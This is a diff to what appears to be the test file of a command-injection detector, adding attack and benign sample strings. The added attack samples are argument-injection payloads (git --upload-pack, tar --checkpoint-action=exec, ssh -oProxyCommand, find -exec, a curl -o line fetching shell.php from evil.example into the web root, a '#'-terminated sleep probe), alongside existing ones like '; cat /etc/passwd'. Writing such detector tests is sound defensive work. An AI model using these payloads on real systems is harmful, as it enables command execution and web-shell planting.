@@ -15,6 +15,14 @@ const BODY = { source: 'body', name: 'comment' } as const;
 const attacks: [string, 1 | 2 | 3, Partial<DetectorContext>?][] = [
   // separators followed by real commands
   ['; cat /etc/passwd', 1],
+  // argument injection: options that run a command or write a script where it is served
+  ['--upload-pack=touch /tmp/pwned', 1],
+  ['--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh', 1],
+  ['-oProxyCommand=sh -c id', 1],
+  ['-exec id ;', 1],
+  ['-o /var/www/html/shell.php http://evil.example/shell.txt', 1],
+  // a `#` glued to the end, meant to cut the application's command line
+  ['1;sleep 5#', 1],
   // arithmetic and sleeping probes: expr(1), PowerShell's Start-Sleep after a quote the value closes
   ['1;expr 268409241 - 13', 1],
   ["'; Start-Sleep -s 10; '", 1],
@@ -175,6 +183,10 @@ const benign: [string, Partial<DetectorContext>?][] = [
   ['Write a bash script that deletes log files older than 7 days in /var/log/myapp and compresses the rest.', { source: 'body', name: 'content' }],
   // a Python traceback: `File "...", line N, in name`
   ['Traceback (most recent call last):\n  File "/usr/local/lib/python3.11/site-packages/django/core/handlers/exception.py", line 55, in inner\n    response = get_response(request)\n  File "/app/shop/views.py", line 42, in checkout\n    order = Order.objects.get(id=order_id)', { source: 'body', name: 'body' }],
+  // options that are no injection, and a `#` that is part of a word
+  ['--dry-run', { source: 'query', name: 'flags' }],
+  ['-o report.pdf', { source: 'query', name: 'args' }],
+  ['C#', { source: 'query', name: 'q' }],
   // a page title (GA4's `dt`): capitalised words between separators make no chain
   ['Who we are; Where we work | Time Out', { source: 'query', name: 'dt' }],
   // the signed headers of presigned S3 and GCS URLs
